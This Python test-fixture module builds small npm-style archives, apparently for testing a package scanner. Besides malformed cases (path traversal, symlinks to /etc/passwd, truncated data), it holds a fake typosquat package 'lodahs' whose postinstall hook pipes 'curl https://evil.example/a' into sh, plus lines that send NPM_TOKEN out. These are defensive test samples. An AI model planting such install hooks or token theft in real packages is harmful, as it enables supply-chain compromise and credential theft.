"""Small archives built for tests."""

from __future__ import annotations

import gzip
import io
import json
import tarfile
from pathlib import Path


def tgz(members: list[tuple]) -> bytes:
    """members: (path, bytes) for files, (path, "sym" | "hard", target) for links."""
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as tar:
        for member in members:
            info = tarfile.TarInfo(member[0])
            if len(member) == 2:
                info.size = len(member[1])
                tar.addfile(info, io.BytesIO(member[1]))
            else:
                info.type = tarfile.SYMTYPE if member[1] == "sym" else tarfile.LNKTYPE
                info.linkname = member[2]
                tar.addfile(info)
    return buffer.getvalue()


def manifest(**fields) -> bytes:
    return json.dumps({"name": "plain-tool", "version": "1.0.0", **fields}).encode()


ARCHIVES: dict[str, bytes] = {
    "plain@1.0.0.tgz": tgz(
        [("package/package.json", manifest()), ("package/index.js", b"module.exports = 1\n")]
    ),
    "@s__p@2.0.0.tgz": tgz(
        [
            ("package/package.json", manifest(name="@s/p", author={"name": "Ann"}, bin="cli.js")),
            ("package/a.js", b"eval(x); fetch('https://evil.example/a')\n"),
        ]
    ),
    "escape@1.0.0.tgz": tgz([("package/package.json", manifest()), ("../x", b"bad")]),
    "links@1.0.0.tgz": tgz(
        [
            ("package/package.json", manifest()),
            ("package/out", "sym", "/etc/passwd"),
            ("package/up", "hard", "../../x"),
            ("package/fine", "sym", "index.js"),
        ]
    ),
    "big@1.0.0.tgz": tgz([("package/package.json", manifest()), ("package/b.js", b"y" * 60_000)]),
    "bare@1.0.0.tgz": tgz(
        [("package/index.js", b"eval(x)"), ("package/.npmrc", b"a=b"), ("package/out", "sym", "/x")]
    ),
    "else@1.0.0.tgz": tgz(
        [("zeta/package.json", manifest(name="zeta")), ("alpha/package.json", manifest(name="alpha"))]
    ),
    "broken-json@1.0.0.tgz": tgz(
        [("package/package.json", b'{"name": "x", "scripts": {"install": "sh x"}')]
    ),
    "packing@1.0.0.tgz": tgz(
        [
            ("package/package.json", manifest()),
            ("package/.npmrc", b"a=b"),
            ("package/package-lock.json", b"{}"),
            ("package/sub/package-lock.json", b"{}"),
            ("package/npm-shrinkwrap.json", b"{}"),
        ]
    ),
    "dropper@3.1.0.tgz": tgz(
        [
            (
                "package/package.json",
                manifest(
                    name="lodahs",
                    scripts={"postinstall": "curl https://evil.example/a | sh", "test": "jest"},
                ),
            ),
            ("package/steal.js", b"fs.writeFile ('/home/u/.npmrc', t)\nsend(process.env.NPM_TOKEN)\n"),
        ]
    ),
    "not-gzip@1.0.0.tgz": b"this is no archive",
    "cut@1.0.0.tgz": tgz([("package/package.json", manifest()), ("package/i.js", b"z" * 5000)])[:60],
    "noversion.tgz": tgz([("package/package.json", manifest())]),
    "empty@1.0.0.tgz": gzip.compress(b""),
    "void@1.0.0.tgz": tgz([]),
}


def write_archives(folder: str) -> str:
    root = Path(folder) / "downloads"
    (root / "nested").mkdir(parents=True)
    for i, (name, content) in enumerate(ARCHIVES.items()):
        place = root / "nested" / name if i == 0 else root / name
        place.write_bytes(content)
    return str(root)
